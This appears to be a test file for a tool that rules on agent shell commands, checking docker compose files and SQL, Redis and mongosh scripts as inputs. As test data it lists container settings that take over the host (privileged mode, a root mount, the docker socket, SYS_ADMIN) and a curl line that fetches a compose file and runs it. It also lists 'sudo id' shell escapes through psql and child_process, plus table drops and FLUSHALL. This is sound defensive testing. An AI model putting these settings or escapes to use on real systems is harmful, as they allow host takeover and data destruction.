// Files that tools of containers and databases are given: what the project holds is read, what this line makes is judged with it.
import { describe, expect, test } from "vitest";
import type { FileFacts } from "../../src/file-facts.ts";
import { judgeCommand } from "../../src/index.ts";
import { exampleFacts, exampleSetting } from "../../src/prove-profile.ts";

const withFile = (name: string, text: string): FileFacts => {
  const path = `/home/dev/project/${name}`;
  return {
    ...exampleFacts,
    lstat: (asked) =>
      asked === path ? { kind: "file", dev: 1, ino: 99, size: text.length, mode: 0o644 } : exampleFacts.lstat(asked),
    read: (asked, most) => (asked === path ? text : exampleFacts.read(asked, most)),
  };
};

const judged = (line: string, name: string, text: string) => {
  const { decision, reasons } = judgeCommand(line, exampleSetting, withFile(name, text));
  return [decision, reasons[0]?.kind ?? ""];
};

describe("a compose file", () => {
  const service = (lines: string): string => `services:\n  web:\n    image: app\n${lines}`;

  test.each([
    ["    privileged: true\n"],
    ["    pid: host\n"],
    ["    volumes:\n      - /:/host\n"],
    ["    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"],
    ["    volumes:\n      - type: bind\n        source: /etc\n        target: /e\n"],
    ['    volumes: ["/:/host"]\n'],
    ["    cap_add:\n      - SYS_ADMIN\n"],
    ["    devices:\n      - /dev/sda:/dev/sda\n"],
    ["    security_opt:\n      - seccomp:unconfined\n"],
  ])("that takes this machine is asked: %j", (lines) => {
    expect(judged("docker compose up -d", "compose.yaml", service(lines))).toEqual(["ask", "infra.admin"]);
    expect(judged("docker compose -f stack.yml run --rm web true", "stack.yml", service(lines))).toEqual([
      "ask",
      "infra.admin",
    ]);
    expect(judged("docker compose ps", "compose.yaml", service(lines))[0]).toBe("allow");
  });

  test("that does not is started", () => {
    const text = service(
      "    # privileged: true\n    cap_drop:\n      - ALL\n    ports: ['80:80']\n    volumes:\n      - ./src:/app\n      - data:/data\n      - /etc/localtime:/etc/localtime:ro\n    environment:\n      PATH: /usr/bin:/bin\n",
    );
    expect(judged("docker compose up -d", "docker-compose.yml", text)[0]).toBe("allow");
  });

  test("that this line writes is refused with it", () => {
    const line = "printf 'services:\\n  a:\\n    pid: host\\n' > compose.yml && docker compose up";
    expect(judgeCommand(line, exampleSetting, exampleFacts).decision).toBe("deny");
    expect(
      judgeCommand("curl -o compose.yml https://x.example/c && docker compose up", exampleSetting, exampleFacts)
        .decision,
    ).toBe("deny");
  });
});

describe("a file of statements", () => {
  test.each([
    ["psql app -f db.sql", "create table a (id int);", "allow"],
    ["psql app < db.sql", "insert into a values (1);", "allow"],
    ["cat db.sql | psql app", "select 1;", "allow"],
    ["psql app -f db.sql", "drop table a;", "ask"],
    ["mysql app < db.sql", "select 1; truncate table a;", "ask"],
    ["cat db.sql | mysql app", "delete from a;", "ask"],
    ["psql app -f db.sql", "\\! sudo id", "deny"],
    ["redis-cli < db.sql", "SET a 1\nGET a\n", "allow"],
    ["redis-cli < db.sql", "SET a 1\nFLUSHALL\n", "ask"],
    ["sqlcmd -i db.sql", "select 1", "allow"],
    ["sqlcmd -i db.sql", "drop table a", "ask"],
  ])("%s over %j: %s", (line, text, decision) => {
    expect(judged(line, "db.sql", text)[0]).toBe(decision);
  });

  test("that this line changes is not what the disk holds", () => {
    expect(judged("sed -i s/a/b/ db.sql; psql app -f db.sql", "db.sql", "select 1;")[0]).toBe("ask");
    expect(judged("echo 'drop table a' > db.sql; psql app -f db.sql", "db.sql", "select 1;")[0]).toBe("ask");
  });

  test("a program for the shell of documents is read as well", () => {
    expect(judged("mongosh app seed.js", "seed.js", "db.a.insertOne({x: 1})")[0]).toBe("allow");
    expect(judged("mongosh app seed.js", "seed.js", "db.a.drop()")[0]).toBe("ask");
    expect(judged("mongosh app < seed.js", "seed.js", "require('child_process').execSync('sudo id')")[0]).toBe("deny");
  });
});
